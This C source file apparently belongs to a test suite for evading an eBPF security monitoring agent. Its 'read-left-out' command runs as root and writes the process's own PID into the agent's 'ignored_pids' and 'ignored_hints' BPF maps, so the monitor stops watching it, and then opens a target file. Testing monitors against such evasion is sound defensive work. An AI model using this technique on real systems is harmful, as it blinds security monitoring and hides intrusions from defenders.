/* Deceiving the agent itself. Root can; here it does so only for this process. */
#define _GNU_SOURCE
#include "evasion.h"
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

static int bpf(int command, union bpf_attr *attributes)
{
	return syscall(SYS_bpf, command, attributes, sizeof(*attributes));
}

static void set(int map, unsigned key, unsigned char value)
{
	union bpf_attr attributes = {.map_fd = map, .key = (unsigned long)&key, .value = (unsigned long)&value};

	must("map", bpf(BPF_MAP_UPDATE_ELEM, &attributes));
}

/* Adds this process to the ignored ones, if the map has that purpose. */
static int leave_out(int map)
{
	struct bpf_map_info info = {0};
	union bpf_attr attributes = {.info = {.bpf_fd = map, .info_len = sizeof(info), .info = (unsigned long)&info}};

	must("map", bpf(BPF_OBJ_GET_INFO_BY_FD, &attributes));
	if (!strcmp(info.name, "ignored_hints"))
		set(map, getpid() % info.max_entries, 1);
	if (strcmp(info.name, "ignored_pids"))
		return 0;
	set(map, getpid(), 1);
	return 1;
}

/* The agent keeps a map of the processes that it ignores: its own. */
static int read_left_out(int argc, char **argv)
{
	union bpf_attr attributes = {0};
	unsigned id = 0, found = 0;
	int map;

	remember_target();
	while (attributes.start_id = id, !bpf(BPF_MAP_GET_NEXT_ID, &attributes)) {
		id = attributes.next_id;
		memset(&attributes, 0, sizeof(attributes));
		attributes.map_id = id;
		map = bpf(BPF_MAP_GET_FD_BY_ID, &attributes);
		memset(&attributes, 0, sizeof(attributes));
		if (map < 0)
			continue; /* it no longer exists */
		found += leave_out(map);
		close(map);
	}
	if (errno != ENOENT || !found)
		cannot("the agent's maps");
	return must_be_target(open(TARGET, O_RDONLY));
}

/* Makes a map and opens it by its number: not the agent's. */
static int map_by_number(int argc, char **argv)
{
	union bpf_attr attributes = {.map_type = BPF_MAP_TYPE_ARRAY, .key_size = 4, .value_size = 4, .max_entries = 1};
	struct bpf_map_info info = {0};
	int map = must("map", bpf(BPF_MAP_CREATE, &attributes));

	memset(&attributes, 0, sizeof(attributes));
	attributes.info.bpf_fd = map;
	attributes.info.info_len = sizeof(info);
	attributes.info.info = (unsigned long)&info;
	must("map", bpf(BPF_OBJ_GET_INFO_BY_FD, &attributes));
	memset(&attributes, 0, sizeof(attributes));
	attributes.map_id = info.id;
	must("map", bpf(BPF_MAP_GET_FD_BY_ID, &attributes));
	return 0;
}

const struct command agent_commands[] = {
	{"read-left-out", 0, "", read_left_out},
	{"map-by-number", 0, "", map_by_number},
	{0},
};
